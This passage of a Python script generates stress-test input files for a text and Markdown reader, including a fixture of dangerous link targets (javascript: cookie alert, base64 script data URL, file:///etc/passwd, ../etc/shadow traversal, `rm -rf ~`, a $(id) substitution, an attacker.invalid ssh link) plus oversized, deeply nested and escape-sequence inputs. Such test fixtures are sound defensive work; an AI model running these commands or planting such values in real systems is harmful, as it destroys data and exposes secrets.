    "[javascript](javascript:alert(document.cookie)), [file](file:///etc/passwd), "
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==), "
    "[shell](`rm -rf ~`), [quoted](https://example.com/\"$(id)\"), "
    "[newline](<https://example.com/a\nb>), [ssh](ssh://attacker.invalid), "
    "[relative](../../../../etc/shadow).\n\n"
    "[A long target](https://example.com/" + "a" * 4000 + ")\n\n"
    "<https://example.com/autolink> and a bare https://example.com/bare address.\n\n"
    "“Only show targets; open nothing without asking,” said Oren Pike.\n",
)
put(
    "md-pathological-nesting.md",
    "+++\n"
    'title = "Markdown nested deeper than anyone reads"\n'
    "+++\n\n"
    + ">" * 300 + " three hundred block quotes deep\n\n"
    + "".join("  " * i + "- level " + str(i) + "\n" for i in range(120))
    + "\n"
    + "*" * 2000 + "emphasis" + "*" * 2000 + "\n\n"
    + "[" * 3000 + "brackets" + "]" * 3000 + "\n\n"
    "“Still readable at the end,” said Oren Pike.\n",
)


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--generated":
        generated(sys.argv[2])
        return
    for name, size in written:
        print(f"{size:7d}  {name}")


def generated(out):
    """The big inputs (README.md, "Generated at test time"). Nothing here is committed."""
    os.makedirs(out, exist_ok=True)

    def w(name, data):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        print(f"{len(data):10d}  {name}")

    unit = b"The quick brown fox jumps over the lazy dog. "
    w("gen-10mib-paragraph.txt", b"Ten mebibytes in one paragraph\n\n" + (unit * 233017)[:10485760])
    w("gen-million-paragraphs.txt", b"A million paragraphs\n\n" + b"P.\n\n" * 1_000_000)
    w("gen-million-lines.txt", b"A million lines, no blank line\n" + b"Line.\n" * 1_000_000)
    w("gen-100k-open-quotes.txt", b"100,000 opening quote marks\n\n" + "“".encode() * 100_000)
    w("gen-100k-straight-quotes.txt", b"100,000 straight quote marks\n\n" + b'"' * 100_000)
    w("gen-100k-quote-pairs.txt",
      b"100,000 quoted words\n\n" + "“Yes,” said Ann Lee. ".encode() * 100_000)
    w("gen-100k-singles.txt", b"100,000 single marks\n\n" + "‘a’ ’90s farmers’ ".encode() * 100_000)
    w("gen-1mib-front-matter.md",
      b'+++\ntitle = "Front matter of 1 MiB"\n[extra]\n'
      + b"".join(f'k{i:06d} = "v"\n'.encode() for i in range(74_899))
      + b"+++\n\nBody.\n")
    w("gen-over-limit.txt", b"Over the size limit\n\n" + b"x" * (64 * 1024 * 1024 + 1))
    w("gen-deep-json.json", b'{"title": "Deep", "body": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}")
    w("gen-long-csi.txt", b"A CSI with a million parameters\n\n\x1b[" + b"1;" * 500_000 + b"m visible")
    w("gen-unterminated-osc.txt", b"Unterminated OSC\n\n\x1b]0;" + b"A" * 10_485_760)
    w("gen-zalgo-1mib.txt", b"One grapheme of 1 MiB\n\na" + "\u0301".encode() * 524_288)
    w("gen-100k-speakers.txt",
      b"100,000 different speakers\n\n"
      + b"".join(f"\u201cQuote number {i},\u201d said Person{i} Surname{i}.\n\n".encode()
                 for i in range(100_000)))
    w("gen-nested-quotes-50k.txt",
      b"50,000 nested quote levels\n\n" + "“‘".encode() * 25_000 + b"x" + "’”".encode() * 25_000)


if __name__ == "__main__":
    main()
